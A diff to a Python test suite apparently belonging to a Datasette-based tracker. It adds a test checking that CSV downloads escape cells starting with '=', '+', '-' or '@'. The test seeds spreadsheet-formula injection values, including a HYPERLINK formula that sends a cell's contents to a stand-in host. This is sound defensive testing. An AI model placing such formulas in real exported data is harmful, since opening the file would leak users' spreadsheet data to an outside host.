@@ -3,6 +3,7 @@ writes through the actions library, the guards on the users table."""
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import sqlite3
@@ -579,3 +580,33 @@ def test_the_tracker_as_a_workbook(web: Web, db: Path) -> None:
     workbook = openpyxl.load_workbook(io.BytesIO(response.content))
     actions = workbook.worksheets[0]
     assert actions.max_row == 1 + connect(db).execute("SELECT count(*) FROM actions").fetchone()[0]
+
+
+def test_datasettes_own_csv_never_begins_a_formula(web: Web, db: Path) -> None:
+    # A title and owner a spreadsheet would run, shown by Datasette's table CSV and a query's.
+    conn = connect(db)
+    conn.execute(
+        "UPDATE actions SET owner = '@SUM(A1:A9)' WHERE id = ?", [action_id(conn)]
+    )  # owner is a plain column (no history); the title goes through the library below
+    conn.commit()
+    from lettermine.actions import add_action
+
+    add_action(conn, title='=HYPERLINK("http://x/?"&A1,"x")', owner="+44 1234", date=TODAY)
+    web.sign_in(VIEWER)
+    name = db.stem
+    for path, params in (
+        (f"/{name}/actions.csv", {"_dl": "1"}),
+        (f"/{name}/actions.csv", {}),
+        (f"/{name}.csv", {"sql": "select title, owner, '-2+3' as sum, -5 as n from actions"}),
+    ):
+        page = web.get(path, params=params)
+        assert page.status_code == 200, (path, page.text[:200])
+        rows = list(csv.reader(io.StringIO(page.content.decode("utf-8"))))
+        cells = [c for row in rows[1:] for c in row]
+        bad = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
+               and not re.fullmatch(r"-?\d+(\.\d+)?", c)]  # fmt: skip
+        assert cells and bad == [], path
+        assert '\'=HYPERLINK("http://x/?"&A1,"x")' in cells and "'@SUM(A1:A9)" in cells, path
+    # lettermine's own download is guarded once, not twice.
+    tracker = web.get("/-/lettermine/download/tracker.csv").content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in tracker and "''=HYPERLINK" not in tracker
